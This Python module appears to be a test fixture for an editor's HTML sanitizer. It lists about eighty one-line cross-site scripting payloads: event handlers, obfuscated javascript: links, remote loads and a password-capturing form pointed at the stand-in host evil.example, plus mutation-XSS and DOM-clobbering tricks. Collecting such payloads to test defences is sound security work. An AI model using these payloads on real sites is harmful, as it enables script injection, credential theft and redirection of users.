"""Fragments that try to act: pasted into the editor and sent straight to the server, they may leave
words and nothing else. Each that runs sets `window.hit`; addresses outside are `evil.example`."""
# ruff: noqa: E501 - each attack is one line, as it is found in collections of such

from __future__ import annotations

import base64

_RUN = "window.top.hit=1"
_DOCUMENT = base64.b64encode(f"<script>{_RUN}</script>".encode()).decode()

ATTACKS: tuple[str, ...] = (
    # scripts and handlers
    f"<script>{_RUN}</script>",
    f"<SCRIPT/x>{_RUN}</SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    '<script src="https://evil.example/x.js"></script>',
    '<script type="module">import "https://evil.example/m.js"</script>',
    f'<img src=x onerror="{_RUN}">',
    f"<img src=x onerror\n=\n'{_RUN}'>",
    f'<img/src="x"/onerror={_RUN}>',
    f'<IMG """><img src=x onerror={_RUN}>">',
    f'<body onload="{_RUN}"><p>chữ</p>',
    f'<p onclick="{_RUN}" onfocus="{_RUN}" tabindex=1 autofocus>chữ</p>',
    f'<input autofocus onfocus="{_RUN}">',
    f'<details open ontoggle="{_RUN}"><summary>a</summary>b</details>',
    f'<video autoplay onplay="{_RUN}"><source onerror="{_RUN}" src="x"></video>',
    f'<audio src=x onerror="{_RUN}"></audio>',
    f'<marquee onstart="{_RUN}">chữ</marquee>',
    f'<a href="/x" onmouseover="{_RUN}">a</a>',
    f'<table background="javascript:{_RUN}"><tr><td background="https://evil.example/t.png">a</td><td>b</td></tr></table>',
    # addresses that run
    f'<a href="javascript:{_RUN}">a</a>',
    f'<a href=" \x01javascript:{_RUN}">a</a>',
    f'<a href="java\tscript:{_RUN}">a</a>',
    f'<a href="java&#10;script:{_RUN}">a</a>',
    f'<a href="&#106;&#97;vascript:{_RUN}">a</a>',
    f'<a href="&#x6a&#x61vascript&colon;{_RUN}">a</a>',
    f'<a href="javascript&Tab;:{_RUN}">a</a>',
    f'<a href="JaVaScRiPt&colon;{_RUN}">a</a>',
    f'<a href="\u200bjavascript:{_RUN}">a</a>',
    f'<a href="vbscript:{_RUN}">a</a>',
    f'<a href="data:text/html;base64,{_DOCUMENT}">a</a>',
    '<a href="//evil.example/x">a</a>',
    '<a href="/\\evil.example/x">a</a>',
    f'<a href="blob:https://evil.example/{_RUN}">a</a>',
    f'<a href="/x" data-ref="article:1&quot; onclick=&quot;{_RUN}">a</a>',
    f'<small class="note"><a href="javascript:{_RUN}">a</a><img src=x onerror={_RUN}></small>',
    # things that load
    '<img src="https://evil.example/p.png" alt="a">',
    '<img src="/static/img/x.png" srcset="https://evil.example/p.png 2x" alt="a">',
    '<picture><source srcset="https://evil.example/p.webp"><img src="/static/x.png" alt="a"></picture>',
    '<p style="background:url(https://evil.example/b.png)">chữ</p>',
    '<style>@import "https://evil.example/s.css"; p{background:url(//evil.example/b)}</style><p>chữ</p>',
    '<link rel="stylesheet" href="https://evil.example/s.css"><link rel="prefetch" href="https://evil.example/p">',
    f"<p style=\"width:expression({_RUN});behavior:url(https://evil.example/x.htc)\">chữ</p>",
    '<iframe src="https://evil.example/f"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;{_RUN}&lt;/script&gt;"></iframe>',
    f'<iframe src="javascript:{_RUN}"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
    f'<object data="data:text/html;base64,{_DOCUMENT}"></object><embed src="https://evil.example/x.swf">',
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
    # leaving the page, taking what is typed
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><a href="x">a</a>',
    '<form action="https://evil.example/take"><input name="password"><button autofocus>Gửi</button></form>',
    f'<button form="body" formaction="javascript:{_RUN}">Gửi</button>',
    '<a href="/x" ping="https://evil.example/ping" target="opener" rel="opener">a</a>',
    # markup that changes its meaning when it is read twice
    f'<svg onload="{_RUN}"><circle r="9"/></svg>',
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><animate onbegin="{_RUN}" attributeName="x" dur="1s"/></svg>',
    f'<svg><a xlink:href="javascript:{_RUN}"><text y="9">a</text></a></svg>',
    f'<svg><use href="data:image/svg+xml;base64,{_DOCUMENT}#x"/></svg>',
    f'<svg></p><style><a title="</style><img src=x onerror={_RUN}>">',
    f'<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>',
    f'<math><mi//xlink:href="data:x,<script>{_RUN}</script>">a</mi></math>',
    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>',
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">a</noscript>",
    f"<template><img src=x onerror={_RUN}></template>",
    f'<template shadowrootmode="open"><img src=x onerror={_RUN}></template>',
    f"<textarea><p title=\"</textarea><img src=x onerror={_RUN}>\"></textarea>",
    f"<title><p title=\"</title><img src=x onerror={_RUN}>\"></title>",
    f"<xmp><p title=\"</xmp><img src=x onerror={_RUN}>\"></xmp>",
    f"<select><style></select><img src=x onerror={_RUN}></style></select>",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]--><p>chữ</p>",
    f"<!-- --!><img src=x onerror={_RUN}> --><p>chữ</p>",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?xml-stylesheet href='javascript:{_RUN}'?><p>chữ</p>",
    f'<p title="`><img src=x onerror={_RUN}>`">chữ</p>',
    f"&lt;img src=x onerror={_RUN}&gt;",
    f'<xml id="x"><a><b>&lt;img src=x onerror={_RUN}&gt;</b></a></xml>',
    # names that hide those of the page
    '<a id="cookie" name="body">a</a><form id="forms" name="defaultView"></form>',
    '<img name="getElementById" src="/static/x.png"><input name="action" id="location">',
    '<p id="editor" class="editor-sheet error-summary visually-hidden" data-confirm="x" data-editor>chữ</p>',
    '<iframe name="hit" src="/healthz"></iframe>',
    # what pretends to come from this editor
    f'<p data-pm-slice="1 1 []">chữ<img src=x onerror="{_RUN}"></p>',
    f'<div data-pm-slice=\'0 0 ["figure",{{"src":"javascript:{_RUN}"}}]\'><a href="javascript:{_RUN}">a</a></div>',
    '<p data-pm-slice="1 1 [&quot;blockquote&quot;,null]" style="position:fixed;inset:0">chữ</p>',
)  # fmt: skip
